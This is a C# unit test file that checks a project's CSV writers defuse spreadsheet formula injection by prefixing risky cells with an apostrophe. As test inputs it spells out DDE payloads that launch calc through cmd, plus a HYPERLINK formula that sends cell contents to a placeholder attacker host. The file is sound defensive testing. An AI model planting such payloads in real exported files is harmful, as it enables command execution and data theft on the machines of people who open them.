using TeachServe.Core.Csv;
using TeachServe.Core.Experiments;
using TeachServe.Core.Projects;
using TeachServe.Core.Simulation;
using TeachServe.Core.Teaching;
using static TeachServe.Core.Tests.Experiments.ExperimentSamples;

namespace TeachServe.Core.Tests.Csv;

/// <summary>Formula injection (OWASP "CSV Injection"): every CSV writer neutralises cells a spreadsheet would evaluate.</summary>
public class CsvCellsTests
{
    public static TheoryData<string, string> Cells => new()
    {
        { "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"open\"\")\"" },
        { "+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0" },
        { "-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0" },
        { "@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM(1+9)*cmd|' /C calc'!A0" },
        { "\t=1+1", "'\t=1+1" },
        { "\r=1+1", "\"'\r=1+1\"" },
        { "|calc", "|calc" },
        { "plain, with comma", "\"plain, with comma\"" },
        { "w-1", "w-1" },
        { "", "" },
        // Numbers the writers print themselves stay numbers.
        { "-0.25", "-0.25" },
        { "+3", "+3" },
        { "1e-5", "1e-5" },
        { "-1.5E+300", "-1.5E+300" },
        { "-", "'-" },
        { "-1e", "'-1e" },
        { "-1-1", "'-1-1" },
    };

    [Theory]
    [MemberData(nameof(Cells))]
    public void A_cell_starting_like_a_formula_is_written_as_text(string value, string written)
    {
        Assert.Equal(written, CsvCells.Cell(value));
    }

    [Fact]
    public void A_neutralised_cell_reads_back_as_the_quoted_text()
    {
        var row = new System.Text.StringBuilder();
        CsvCells.AppendRow(row, "=1+1", "a\"b", "-7");
        var record = new CsvRecordReader(new StringReader(row.ToString())).Read()!;
        Assert.Equal(["'=1+1", "a\"b", "-7"], record.Cells);
    }

    [Fact]
    public void The_experiment_report_neutralises_worker_refs_and_arm_names()
    {
        var definition = Definition() with
        {
            Arms = [new ArmDefinition { Name = "@control", Policy = PolicyNames.Random }, new ArmDefinition { Name = "=1+2", Policy = PolicyNames.Adaptive }],
        };
        AnnotatorOutcome[] outcomes =
        [
            new(1, "=HYPERLINK(\"http://evil.example\",\"x\")", Start, true, true, 20, 3, 14, null, 0.0625),
            new(0, "-5+cmd|'/c calc'!A0", Start, false, false, 0, 0, 2, null, 0.5),
        ];
        var csv = ExperimentReportCsv.ToCsv(definition, outcomes);
        var reader = new CsvRecordReader(new StringReader(csv));
        reader.Read();
        var first = reader.Read()!;
        var second = reader.Read()!;
        Assert.Equal("'=1+2", first.Cells[0]);
        Assert.Equal("'=HYPERLINK(\"http://evil.example\",\"x\")", first.Cells[1]);
        Assert.Equal("'@control", second.Cells[0]);
        Assert.Equal("'-5+cmd|'/c calc'!A0", second.Cells[1]);
        Assert.Equal("0.0625", first.Cells[10]);
    }

    [Fact]
    public void The_command_line_curves_csv_neutralises_its_text_cells()
    {
        var result = new SimulationResult
        {
            Policy = "=cmd|' /C calc'!A0", Variant = LearnerVariant.Assumed, Learners = 1, Released = 0, ReleasePrecision = double.NaN,
            Unqualified = 0, UnqualifiedReleased = 0, MeanTeachingItems = 1, MeanTestItems = 0, MeanTeachingItemsToRelease = double.NaN,
            MeanFinalTrueError = 0.1, Curve = [new CurvePoint(0, 0.5, -0.25, 1.25)],
        };
        var csv = TeachServe.Cli.Commands.SimulateCommand.CurvesCsv([result]);
        var reader = new CsvRecordReader(new StringReader(csv));
        Assert.Equal(["policy", "variant", "step", "meanTrueError", "low", "high"], reader.Read()!.Cells);
        var row = reader.Read()!;
        Assert.Equal("'=cmd|' /C calc'!A0", row.Cells[0]);
        Assert.Equal("-0.25", row.Cells[4]);
    }
}
